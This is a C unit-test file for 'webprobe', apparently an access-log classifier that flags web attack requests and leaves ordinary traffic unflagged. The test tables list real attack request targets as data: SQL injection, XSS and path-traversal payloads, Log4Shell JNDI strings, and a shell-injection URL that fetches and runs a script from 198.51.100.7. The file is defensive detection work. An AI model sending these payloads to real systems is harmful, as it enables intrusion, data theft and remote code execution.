/*
 * Unit tests of webprobe: the request targets of the CrowdSec hub's
 * HTTP scenario tests, exploit requests seen in the wild, ordinary
 * traffic that must stay unflagged (measured on a real access log), the
 * windowed decoder against a whole-buffer reference, and the normalized
 * path.
 */
#include "vg_test.h"
#include "webprobe.h"

struct expect {
	const char	*url;
	unsigned	 mask;		/* classes that must be set */
};

static unsigned
classify(const char *url)
{
	return vg_webprobe_classify(vg_str_make(url, strlen(url)));
}

/* Each target must get (at least) its classes; prints the misses. */
static void
expect_all(const struct expect *e, size_t n)
{
	size_t i, bad = 0;
	unsigned got;

	for (i = 0; i < n; i++) {
		got = classify(e[i].url);
		if ((got & e[i].mask) != e[i].mask) {
			printf("    %s: got 0x%x, want 0x%x\n", e[i].url, got,
			    e[i].mask);
			bad++;
		}
	}
	ASSERT_UINT_EQ(bad, 0);
}

/* None of the targets may get any class; prints the hits. */
static void
expect_none(const char *const *urls, size_t n)
{
	size_t i, bad = 0;
	unsigned got;

	for (i = 0; i < n; i++) {
		if ((got = classify(urls[i])) != 0) {
			printf("    %s: got 0x%x, want 0\n", urls[i], got);
			bad++;
		}
	}
	ASSERT_UINT_EQ(bad, 0);
}

/*
 * Every request line of the hub's test logs for the HTTP scenarios this
 * module feeds (crowdsec_hub_tests/SCENARIO/SCENARIO.log), as literals.
 */
VG_TEST(webprobe_crowdsec_hub_targets)
{
	static const struct expect e[] = {
		/* nginx-http-sensitive-files */
		{ "/.bash_history", VG_WEB_SENSITIVE },
		{ "/.bashrc", VG_WEB_SENSITIVE },
		{ "/.cache", VG_WEB_SENSITIVE },
		{ "/.config", VG_WEB_SENSITIVE },
		{ "/.cvs", VG_WEB_SENSITIVE },
		{ "/.cvsignore", VG_WEB_SENSITIVE },
		{ "/.env", VG_WEB_SENSITIVE },
		{ "/.forward", VG_WEB_SENSITIVE },
		{ "/.git/HEAD", VG_WEB_SENSITIVE },
		/* nginx-http-path-traversal */
		{ "/%2fetc%2fpasswd", VG_WEB_TRAVERSAL },
		{ "/%2Fetc%2Fpasswd", VG_WEB_TRAVERSAL },
		{ "/%252E%252E%252Ffoo1", VG_WEB_TRAVERSAL },
		{ "/%252E%252E%252Ffoo2", VG_WEB_TRAVERSAL },
		{ "/%252E%252E%252Ffoo3", VG_WEB_TRAVERSAL },
		{ "/%252E%252E%252Ffoo4", VG_WEB_TRAVERSAL },
		{ "/%252E%252E%252Ffoo5", VG_WEB_TRAVERSAL },
		{ "/c:/win.ini", VG_WEB_TRAVERSAL },
		{ "/%2Fetc%2Fgroups", VG_WEB_TRAVERSAL },
		/* nginx-http-sqli-probing */
		{ "/foo?a=information_schema.tables", VG_WEB_SQLI },
		{ "/foo?a=%20union%20all%20select%20", VG_WEB_SQLI },
		{ "/foo?a=%20union%20select%20", VG_WEB_SQLI },
		{ "/foo?a=%2cnull%2cnull", VG_WEB_SQLI },
		{ "/foo?a=benchmark%28", VG_WEB_SQLI },
		{ "/foo?a=load_file%28", VG_WEB_SQLI },
		{ "/foo?a=substr%28", VG_WEB_SQLI },
		{ "/foo?a=substring%28", VG_WEB_SQLI },
		{ "/foo?a=selectchar%28", VG_WEB_SQLI },
		{ "/foo?a=%7c%7cchr%28", VG_WEB_SQLI },
		{ "/foo?a=distinct%28", VG_WEB_SQLI },
		{ "/foo?a=pg_sleep%28", VG_WEB_SQLI },
		{ "/foo?a=sleep%28", VG_WEB_SQLI },
		{ "/foo?a=upper%28", VG_WEB_SQLI },
		{ "/foo?a=hex%28", VG_WEB_SQLI },
		{ "/foo?a=md5%28", VG_WEB_SQLI },
		/* http-admin-interface-probing */
		{ "/phpmyadmin2017/index.php?lang=en", VG_WEB_ADMIN },
		{ "/administrator/db/index.php?lang=en", VG_WEB_ADMIN },
		{ "/+cscoe+/", VG_WEB_ADMIN },
		/* http-cve-probing */
		{ "/_ignition/execute-solution", VG_WEB_CVE },
		{ "/setup.cgi", VG_WEB_CVE },
		{ "/cgi/networkDiag.cgi", VG_WEB_CVE },
		/* http-wordpress_user-enum */
		{ "/?author=2", VG_WEB_WP_ENUM },
		{ "/?author=23", VG_WEB_WP_ENUM },
		{ "/?author=24", VG_WEB_WP_ENUM },
		{ "/?author=14", VG_WEB_WP_ENUM },
		{ "/?author=3", VG_WEB_WP_ENUM },
		{ "/?author=12", VG_WEB_WP_ENUM },
		{ "/?author=1", VG_WEB_WP_ENUM },
		/* http-bf-wordpress-bf */
		{ "/wp-login.php", VG_WEB_LOGIN },
	};

	expect_all(e, VG_ARRAY_LEN(e));
}

/* The target of an access-log line: the second word inside the quotes. */
static bool
request_target(const char *line, size_t n, struct vg_str *tp)
{
	const char *q = memchr(line, '"', n), *sp, *end = line + n, *t;

	if (q == NULL || (sp = memchr(q, ' ', (size_t)(end - q))) == NULL)
		return false;
	t = sp + 1;
	if ((sp = memchr(t, ' ', (size_t)(end - t))) == NULL)
		return false;
	*tp = vg_str_make(t, (size_t)(sp - t));
	return true;
}

/*
 * The same from the shared files themselves, when present: every line of
 * each scenario's log gets the scenario's class.
 */
VG_TEST(webprobe_crowdsec_hub_files)
{
	static const struct {
		const char	*rel;
		unsigned	 mask;
		size_t		 lines;
	} f[] = {
		{ "nginx-http-sensitive-files/nginx-http-sensitive-files.log",
		    VG_WEB_SENSITIVE, 9 },
		{ "nginx-http-path-traversal/nginx-http-path-traversal.log",
		    VG_WEB_TRAVERSAL, 9 },
		{ "nginx-http-sqli-probing/nginx-http-sqli-probing.log",
		    VG_WEB_SQLI, 16 },
		{ "http-admin-interface-probing/"
		    "http-admin-interface-probing.log", VG_WEB_ADMIN, 3 },
		{ "http-cve-probing/http-cve-probing.log", VG_WEB_CVE, 3 },
		{ "http-wordpress_user-enum/http-wordpress_user-enum.log",
		    VG_WEB_WP_ENUM, 12 },
		{ "http-bf-wordpress-bf/http-bf-wordpress-bf.log",
		    VG_WEB_LOGIN, 9 },
	};
	char rel[256], *buf, *p, *end, *nl;
	const char *path;
	struct vg_str t;
	size_t i, len, lines, bad = 0;

	if (vg_test_shared("logs/crowdsec_hub_tests") == NULL)
		VG_SKIP("../shared/data/logs/crowdsec_hub_tests is absent");
	for (i = 0; i < VG_ARRAY_LEN(f); i++) {
		snprintf(rel, sizeof(rel), "logs/crowdsec_hub_tests/%s",
		    f[i].rel);
		ASSERT_PTR_NE(path = vg_test_shared(rel), NULL);
		buf = vg_test_read(path, &len);
		lines = 0;
		for (p = buf, end = buf + len; p < end; p = nl + 1) {
			if ((nl = memchr(p, '\n', (size_t)(end - p))) == NULL)
				nl = end;
			if (!request_target(p, (size_t)(nl - p), &t))
				continue;
			lines++;
			if ((vg_webprobe_classify(t) & f[i].mask) == 0) {
				printf("    %s: %.*s not flagged\n", f[i].rel,
				    (int)t.len, t.p);
				bad++;
			}
		}
		free(buf);
		ASSERT_UINT_EQ(lines, f[i].lines);
	}
	ASSERT_UINT_EQ(bad, 0);
}

/* Exploit and scanner requests as they appear in access logs. */
VG_TEST(webprobe_probes)
{
	static const struct expect e[] = {
		{ "/.git/config", VG_WEB_SENSITIVE },
		{ "/.htpasswd", VG_WEB_SENSITIVE },
		{ "/.ssh/id_rsa", VG_WEB_SENSITIVE },
		{ "/.aws/credentials", VG_WEB_SENSITIVE },
		{ "/.DS_Store", VG_WEB_SENSITIVE },
		{ "/app/.env.production", VG_WEB_SENSITIVE },
		{ "/.%65nv", VG_WEB_SENSITIVE },
		{ "/wp-config.php.bak", VG_WEB_SENSITIVE },
		{ "/wp-config.php~", VG_WEB_SENSITIVE },
		{ "/config.php.old", VG_WEB_SENSITIVE },
		{ "/index.php.swp", VG_WEB_SENSITIVE },
		{ "/dump.sql", VG_WEB_SENSITIVE },
		{ "/db/backup.sql.gz", VG_WEB_SENSITIVE },
		{ "/backup.zip", VG_WEB_SENSITIVE },
		{ "/backup_2023-01-01.tar.gz", VG_WEB_SENSITIVE },
		{ "/www.rar", VG_WEB_SENSITIVE },
		{ "/id_rsa", VG_WEB_SENSITIVE },
		{ "/web.config", VG_WEB_SENSITIVE },
		{ "/phpinfo.php", VG_WEB_SENSITIVE },
		{ "/server-status", VG_WEB_SENSITIVE },
		{ "/WEB-INF/web.xml", VG_WEB_SENSITIVE },
		{ "/actuator/env", VG_WEB_SENSITIVE },
		{ "/docker-compose.yml", VG_WEB_SENSITIVE },
		{ "/storage/logs/laravel.log", VG_WEB_SENSITIVE },

		{ "/../../../../etc/passwd", VG_WEB_TRAVERSAL },
		{ "/..%5c..%5c..%5cwindows/win.ini", VG_WEB_TRAVERSAL },
		{ "/index.php?page=....//....//etc/passwd", VG_WEB_TRAVERSAL },
		{ "/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow",
		    VG_WEB_TRAVERSAL },
		{ "/%25252e%25252e%25252fetc", VG_WEB_TRAVERSAL },
		{ "/static/..%c0%af..%c0%afboot.ini", VG_WEB_TRAVERSAL },
		{ "/?file=/proc/self/environ", VG_WEB_TRAVERSAL },
		{ "/index.php?page=php://filter/resource=index.php",
		    VG_WEB_TRAVERSAL },
		{ "/C:/Windows/win.ini", VG_WEB_TRAVERSAL },
		{ "/index.php?n=http://198.51.100.7/pizza.htm?",
		    VG_WEB_TRAVERSAL },
		{ "/?a=1&page=https://198.51.100.7/x.txt?&b=2",
		    VG_WEB_TRAVERSAL },
		{ "/images/..", VG_WEB_TRAVERSAL },
		{ "/..;/manager/html", VG_WEB_TRAVERSAL | VG_WEB_ADMIN },

		{ "/item.php?id=1+UNION+ALL+SELECT+1,2,3--", VG_WEB_SQLI },
		{ "/item.php?id=1%20union%2F**%2Fselect%201", VG_WEB_SQLI },
		{ "/item.php?id=1/*!50000UnIoN*/+/*!50000SeLeCt*/+1",
		    VG_WEB_SQLI },
		{ "/item.php?id=-1'+union(select+1,2)--+", VG_WEB_SQLI },
		{ "/login.php?user=admin'+or+'1'='1", VG_WEB_SQLI },
		{ "/item?id=1%27%20OR%201%3D1--", VG_WEB_SQLI },
		{ "/item?id=1+and+1=2", VG_WEB_SQLI },
		{ "/item?id=1)+AND+SLEEP(5)--", VG_WEB_SQLI },
		{ "/item?id=1;WAITFOR+DELAY+'0:0:5'--", VG_WEB_SQLI },
		{ "/item?id=1+AND+extractvalue(1,concat(0x7e,version()))",
		    VG_WEB_SQLI },
		{ "/item?id=1+into+outfile+'/tmp/x'", VG_WEB_SQLI },
		{ "/item?id=@@version", VG_WEB_SQLI },
		{ "/products/1'%20or%20'a'='a", VG_WEB_SQLI },
		{ "/item?id=1+union+select+null,+null", VG_WEB_SQLI },

		{ "/phpMyAdmin/", VG_WEB_ADMIN },
		{ "/pma/index.php", VG_WEB_ADMIN },
		{ "/myadmin/scripts/setup.php", VG_WEB_ADMIN | VG_WEB_CVE },
		{ "/adminer.php", VG_WEB_ADMIN },
		{ "/admin.php", VG_WEB_ADMIN },
		{ "/wp-admin/install.php", VG_WEB_ADMIN },
		{ "/manager/html", VG_WEB_ADMIN },
		{ "/solr/admin/info/system", VG_WEB_ADMIN },
		{ "/jmx-console/", VG_WEB_ADMIN },
		{ "/CFIDE/administrator/", VG_WEB_ADMIN },

		{ "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		    VG_WEB_CVE },
		{ "/actuator/gateway/routes", VG_WEB_CVE },
		{ "/?x=${jndi:ldap://198.51.100.7:1389/a}", VG_WEB_CVE },
		{ "/%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D",
		    VG_WEB_CVE },
		{ "/?q=${${lower:j}ndi:dns://x}", VG_WEB_CVE },
		{ "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
		    VG_WEB_CVE | VG_WEB_TRAVERSAL },
		{ "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
		    VG_WEB_CVE | VG_WEB_TRAVERSAL },
		{ "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd", VG_WEB_CVE },
		{ "/boaform/admin/formLogin", VG_WEB_CVE },
		{ "/HNAP1/", VG_WEB_CVE },
		{ "/GponForm/diag_Form?images/", VG_WEB_CVE },
		{ "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/"
		    "sslvpn_websession", VG_WEB_CVE },
		{ "/owa/auth/x.js", VG_WEB_CVE },
		{ "/autodiscover/autodiscover.json?@x.com/owa/?&Email="
		    "autodiscover/autodiscover.json%3F@x.com", VG_WEB_CVE },
		{ "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x.sh;"
		    "sh+/tmp/x.sh", VG_WEB_CVE },
		{ "/cgi-bin/luci/;stok=/locale?form=country", VG_WEB_CVE },
		{ "/index.php?s=/Index/\\think\\app/invokefunction&function="
		    "call_user_func_array&vars[0]=md5&vars[1][]=x",
		    VG_WEB_CVE },
		{ "/hello.world?%ADd+allow_url_include%3d1+-d+"
		    "auto_prepend_file%3dphp://input", VG_WEB_CVE },
		{ "/user/register?element_parents=account/mail/%23value&"
		    "ajax_form=1", VG_WEB_CVE },
		{ "/console/css/%252e%252e%252fconsole.portal", VG_WEB_CVE },
		{ "/vpn/../vpns/cfg/smb.conf", VG_WEB_CVE },
		{ "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
		    VG_WEB_CVE },
		{ "/language/Swedish${IFS}&&echo${IFS}1", VG_WEB_CVE },
		{ "/cgi-bin/ViewLog.asp?x=%28%29%20%7B%20%3A%3B%20%7D%3B",
		    VG_WEB_CVE },

		{ "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", VG_WEB_XSS },
		{ "/?x=%253Csvg%2Fonload%253Dalert%25281%2529%253E",
		    VG_WEB_XSS },
		{ "/?next=javascript:alert(document.cookie)", VG_WEB_XSS },
		{ "/?q=\"><img src=x onerror=prompt(1)>", VG_WEB_XSS },

		{ "/?author=1", VG_WEB_WP_ENUM },
		{ "/index.php?p=1&author=7", VG_WEB_WP_ENUM },
		{ "/wp-json/wp/v2/users", VG_WEB_WP_ENUM },
		{ "/?rest_route=/wp/v2/users/", VG_WEB_WP_ENUM },

		{ "/xmlrpc.php", VG_WEB_LOGIN },
		{ "/login", VG_WEB_LOGIN },
		{ "/user/login?destination=/node", VG_WEB_LOGIN },
		{ "/users/sign_in", VG_WEB_LOGIN },
		{ "/api/login", VG_WEB_LOGIN },
		{ "/signin", VG_WEB_LOGIN },
		{ "/j_security_check", VG_WEB_LOGIN },
		{ "/owa/auth.owa", VG_WEB_LOGIN },
		{ "/api/auth", VG_WEB_LOGIN },
		{ "/login_form", VG_WEB_LOGIN },
		{ "http://example.com/wp-login.php", VG_WEB_LOGIN },
		{ "HTTPS://EXAMPLE.COM/WP-LOGIN.PHP?x=1", VG_WEB_LOGIN },
	};

	expect_all(e, VG_ARRAY_LEN(e));
}

/* Ordinary requests, including the near misses each token guards. */
VG_TEST(webprobe_ordinary)
{
	static const char *const urls[] = {
		"/", "", "*", "example.com:443",
		"/favicon.ico",
		"/robots.txt",
		"/index.php?page=2",
		"/search?q=select+a+car",
		"/search?q=european+union+selection",
		"/search?q=black+or+white",
		"/search?q=sleep+well",
		"/static/app.min.js",
		"/blog/2015/05/the-union-of-a-and-b",
		"/.well-known/acme-challenge/Xy-z",
		"/.well-known/security.txt",
		"/wp-admin/admin-ajax.php?action=load_more",
		"/scripts/backup/",
		"/misc/backup/",
		"/files/datasheet.zip",
		"/misc/sample.log",
		"/blog/tags/script",
		"/blog/tags/shell?page=1",
		"/blog/login-tips.html",
		"/auth/realms/master/account",
		"/api/orders?sort=order&dir=asc",
		"/p?author_name=jane",
		"/p?author=jane",
		"/online?onload_delay=5",
		"/go?next=http://example.com/account?tab=1",
		"/out?url=https://example.com/a?b=c&src=feed",
		"/img/select.png",
		"/docs/char-encoding",
		"/a/b/c/d/e/f?x=1&y=2",
		"/~user/projects/",
		"/x.php?a=%zz&b=%",
		"http://example.com",
		"http://example.com/?flav=rss20",
	};

	expect_none(urls, VG_ARRAY_LEN(urls));
}

/*
 * The real Apache log of elastic/examples: 10,000 requests to a personal
 * site in May 2015, with the background of scanners every site gets.
 * Every flagged target was reviewed by hand:
 *   admin-interface 35: /wp-admin/ under /, /blog, /wp and /wordpress
 *     (23), /administrator/ and /administrator/index.php (6),
 *     /admin.php (4), all 404 (the site has no WordPress or Joomla), and
 *     2 FCKeditor probes under .../admin/;
 *   login 12: /wp-login.php (404), half of them ?action=register;
 *   cve-probe 8: FCKeditor fingerprinting (_samples/default.html,
 *     editor/fckeditor.html, filemanager/connectors/test.html) glued to a
 *     blog URL by a crawler-scanner.
 * Nothing is SQLi, XSS, traversal, sensitive-file or user enumeration:
 * the spam URLs with quotes, parentheses and %-escapes are text, and the
 * /scripts/backup/ directory listing is the owner's.  The bounds are the
 * reviewed counts; a change means new hits to review.
 */
VG_TEST(webprobe_real_apache_log)
{
	static const char *const ordinary[] = {
		"/presentations/logstash-monitorama-2013/images/"
		    "kibana-search.png",
		"/blog/tags/puppet?flav=rss20",
		"/blog/geekery/disabling-battery-in-ubuntu-vms.html?utm_source="
		    "feedburner&utm_medium=feed&utm_campaign=Feed%3A+"
		    "semicomplete%2Fmain+%28semicomplete.com+-+"
		    "Jordan+Sissel%29",
		"/presentations/logstash-puppetconf-2012/lib/font/"
		    "league_gothic-webfont.ttf)%20format(%22truetype%22",
		"/presentations/vim/+++++++++++Result:+%22i+never+really+liked+"
		    "c%27s+assert%28%29+feature.+if+an+assertion+is+violated,"
		    "+it%27lltell+you%22;",
		"/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22",
		"/misc/nmh//%22file://$file/%22",
		"/scripts/backup/?C=N;O=D",
		"/scripts/python/wrap.backup/main.py",
		"/kibana/loader2.php?page=eyJzZWFyY2giOiIiLCJmaWVsZHMiOltdfQ"
		    "&_=1391904000000",
		"/demo/jquery-magicpuff.html?iframe=true&width=100%&"
		    "height=100%",
		"/about/tal:RecentChanges&quo",
		"/misc/rcfiles/zshrc",
		"/user/register",
		"/doc/index.html?org/elasticsearch/action/search/"
		    "SearchResponse.html",
	};
	static const char *const cls[8] = {
		"sensitive-file", "path-traversal", "sqli", "admin-interface",
		"cve-probe", "xss", "wp-user-enum", "login",
	};
	const char *path;
	char *buf, *p, *end, *nl;
	struct vg_str t;
	size_t len, lines = 0, n[8] = { 0 }, flagged = 0, b;
	unsigned m;

	expect_none(ordinary, VG_ARRAY_LEN(ordinary));
	for (b = 0; b < 8; b++)
		ASSERT_STR_EQ(vg_webprobe_name(1u << b), cls[b]);
	ASSERT_STR_EQ(vg_webprobe_name(3), "unknown");
	ASSERT_STR_EQ(vg_webprobe_name(0), "unknown");

	if ((path = vg_test_shared("logs/elastic/apache_access.log")) == NULL)
		VG_SKIP("../shared/data/logs/elastic is absent");
	buf = vg_test_read(path, &len);
	for (p = buf, end = buf + len; p < end; p = nl + 1) {
		if ((nl = memchr(p, '\n', (size_t)(end - p))) == NULL)
			nl = end;
		if (!request_target(p, (size_t)(nl - p), &t))
			continue;
		lines++;
		m = vg_webprobe_classify(t);
		flagged += m != 0;
		for (b = 0; b < 8; b++)
			n[b] += (m >> b) & 1;
	}
	free(buf);
	printf("apache_access.log: %zu targets, %zu flagged:", lines, flagged);
	for (b = 0; b < 8; b++)
		printf(" %s %zu", cls[b], n[b]);
	printf("\n");
	ASSERT_UINT_EQ(lines, 10000);
	ASSERT_UINT_EQ(n[0], 0);		/* sensitive-file */
	ASSERT_UINT_EQ(n[1], 0);		/* path-traversal */
	ASSERT_UINT_EQ(n[2], 0);		/* sqli */
	ASSERT_TRUE(n[3] <= 35);		/* admin-interface */
	ASSERT_TRUE(n[4] <= 8);			/* cve-probe */
	ASSERT_UINT_EQ(n[5], 0);		/* xss */
	ASSERT_UINT_EQ(n[6], 0);		/* wp-user-enum */
	ASSERT_TRUE(n[7] <= 12);		/* login */
	/* ... and the scanners are still seen. */
	ASSERT_TRUE(n[3] >= 33 && n[7] >= 12 && n[4] >= 8);
	ASSERT_TRUE(flagged <= 55);
}

/* The normalized path of vg_webprobe_path(). */
static const char *
npath(const char *url, char *buf, size_t size)
{
	size_t n = vg_webprobe_path(vg_str_make(url, strlen(url)), buf, size);

	ASSERT_UINT_EQ(n, strlen(buf));
	return buf;
}

VG_TEST(webprobe_path)
{
	char buf[128], small[8];
	char *big;
	size_t n, i;

	ASSERT_STR_EQ(npath("/Index.PHP?page=2", buf, sizeof(buf)),
	    "/index.php");
	ASSERT_STR_EQ(npath("/%252E%252E%252Ffoo", buf, sizeof(buf)),
	    "/../foo");
	ASSERT_STR_EQ(npath("/%25252e", buf, sizeof(buf)), "/.");
	/* Only three rounds: a fourth level of encoding stays. */
	ASSERT_STR_EQ(npath("/%2525252e", buf, sizeof(buf)), "/%2e");
	ASSERT_STR_EQ(npath("/a//b///C%2f%2Fd", buf, sizeof(buf)), "/a/b/c/d");
	ASSERT_STR_EQ(npath("/a+b%20c?x=1+2", buf, sizeof(buf)), "/a+b c");
	ASSERT_STR_EQ(npath("/x%3Fy?z", buf, sizeof(buf)), "/x?y");
	ASSERT_STR_EQ(npath("/a%zz%4", buf, sizeof(buf)), "/a%zz%4");
	ASSERT_STR_EQ(npath("/a/./b\\c", buf, sizeof(buf)), "/a/./b\\c");
	ASSERT_STR_EQ(npath("http://Example.COM/A/B?c", buf, sizeof(buf)),
	    "/a/b");
	ASSERT_STR_EQ(npath("https://example.com", buf, sizeof(buf)), "/");
	ASSERT_STR_EQ(npath("https://example.com?x=1", buf, sizeof(buf)), "/");
	ASSERT_STR_EQ(npath("?x=1", buf, sizeof(buf)), "");
	ASSERT_STR_EQ(npath("", buf, sizeof(buf)), "");
	ASSERT_STR_EQ(npath("/ABCDEFGHIJ", small, sizeof(small)), "/abcdef");
	ASSERT_UINT_EQ(vg_webprobe_path(VG_STR_LIT("/abc"), small, 1), 0);
	ASSERT_STR_EQ(small, "");
	ASSERT_UINT_EQ(vg_webprobe_path(VG_STR_LIT("/abc"), NULL, 0), 0);
	ASSERT_UINT_EQ(vg_webprobe_path(VG_STR_NULL, buf, sizeof(buf)), 0);
	/* A decoded %00 stays, so the length counts past it. */
	ASSERT_UINT_EQ(vg_webprobe_path(VG_STR_LIT("/a%00b"), buf,
	    sizeof(buf)), 4);
	ASSERT_TRUE(memcmp(buf, "/a\0b", 5) == 0);

	/*
	 * Longer than VG_MAX_LINE, in a heap block of exactly that size so
	 * that ASan catches a read past the view: the output is cut at the
	 * buffer, and the input at VG_MAX_LINE.
	 */
	n = (size_t)VG_MAX_LINE + 1000;
	ASSERT_PTR_NE(big = malloc(n), NULL);
	for (i = 0; i < n; i++)
		big[i] = i % 2 == 0 ? '/' : 'A';
	ASSERT_UINT_EQ(vg_webprobe_path(vg_str_make(big, n), buf,
	    sizeof(buf)), sizeof(buf) - 1);
	ASSERT_TRUE(buf[0] == '/' && buf[125] == 'a' && buf[126] == '/');
	ASSERT_UINT_EQ(vg_webprobe_classify(vg_str_make(big, n)), 0);
	free(big);
}

/*
 * Reference of the path normalization, whole-buffer: three rounds of
 * decoding, lower case, "//" collapsed.
 */
static int
ref_hex(char c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	if ((c | 0x20) >= 'a' && (c | 0x20) <= 'f')
		return (c | 0x20) - 'a' + 10;
	return -1;
}

static size_t
ref_path(const char *in, size_t len, char *out)
{
	size_t i, o, round;
	char *a = malloc(len + 1), c;
	bool more = true;

	ASSERT_PTR_NE(a, NULL);
	memcpy(a, in, len);
	for (round = 0; round < 3 && more; round++) {
		more = false;
		for (i = o = 0; i < len; o++) {
			if (a[i] == '%' && len - i > 2 &&
			    ref_hex(a[i + 1]) >= 0 && ref_hex(a[i + 2]) >= 0) {
				a[o] = (char)(ref_hex(a[i + 1]) << 4 |
				    ref_hex(a[i + 2]));
				i += 3;
			} else
				a[o] = a[i++];
			more |= a[o] == '%';
		}
		len = o;
	}
	for (i = o = 0; i < len; i++) {
		c = a[i] >= 'A' && a[i] <= 'Z' ? a[i] + 32 : a[i];
		if (c == '/' && o > 0 && out[o - 1] == '/')
			continue;
		out[o++] = c;
	}
	free(a);
	return o;
}

/*
 * Targets of several windows: the windowed decoder must give what a
 * whole-buffer decoder gives, escape chains and "//" runs included, and
 * a probe must be found at every offset around a window boundary.
 */
VG_TEST(webprobe_windows)
{
	static const char alpha[] = "aB/%%25.2e";
	static const char *const probe[] = {
		"/.env", "/../x", "/wp-login.php", "/%252e%252e%252fx",
		"/x?id=1+union+select+1",
	};
	static const unsigned pmask[] = {
		VG_WEB_SENSITIVE, VG_WEB_TRAVERSAL, VG_WEB_LOGIN,
		VG_WEB_TRAVERSAL, VG_WEB_SQLI,
	};
	char *in, *want, *got;
	size_t len, i, k, n, wn, off, bad = 0;
	uint32_t seed = 12345;

	ASSERT_PTR_NE(in = malloc(20000), NULL);
	ASSERT_PTR_NE(want = malloc(20000), NULL);
	ASSERT_PTR_NE(got = malloc(20000), NULL);
	for (k = 0; k < 200; k++) {
		len = 1000 + k * 60;
		for (i = 0; i < len; i++) {
			seed = seed * 1103515245u + 12345u;
			/* Mostly plain text, so that clean cuts exist. */
			in[i] = (seed >> 16) % 8 != 0 ?
			    "abc/"[(seed >> 8) % 4] :
			    alpha[(seed >> 20) % (sizeof(alpha) - 1)];
		}
		wn = ref_path(in, len, want);
		n = vg_webprobe_path(vg_str_make(in, len), got, 20000);
		bad += n != wn || memcmp(got, want, n) != 0;
	}
	ASSERT_UINT_EQ(bad, 0);

	/* Each probe at each offset from 3800 to 4400 bytes of "/ab". */
	for (k = 0; k < VG_ARRAY_LEN(probe); k++) {
		for (off = 3800; off < 4400; off++) {
			for (i = 0; i < off; i++)
				in[i] = "/ab"[i % 3];
			n = strlen(probe[k]);
			memcpy(in + off, probe[k], n);
			if ((vg_webprobe_classify(vg_str_make(in, off + n)) &
			    pmask[k]) == 0 && bad++ < 5)
				printf("    %s at %zu missed\n", probe[k], off);
		}
	}
	ASSERT_UINT_EQ(bad, 0);
	/* "//" runs longer than a window, then a probe. */
	memset(in, '/', 9000);
	memcpy(in + 9000, ".git/config", 11);
	ASSERT_UINT_EQ(vg_webprobe_classify(vg_str_make(in, 9011)),
	    VG_WEB_SENSITIVE);
	/* Past VG_MAX_LINE nothing is looked at. */
	free(in);
	n = (size_t)VG_MAX_LINE + 5;
	ASSERT_PTR_NE(in = malloc(n), NULL);
	memset(in, 'a', n);
	in[0] = '/';
	memcpy(in + VG_MAX_LINE, "/.env", 5);
	ASSERT_UINT_EQ(vg_webprobe_classify(vg_str_make(in, n)), 0);
	memcpy(in + VG_MAX_LINE - 5, "/.env", 5);
	ASSERT_UINT_EQ(vg_webprobe_classify(vg_str_make(in, n)),
	    VG_WEB_SENSITIVE);
	free(in);
	free(want);
	free(got);
}
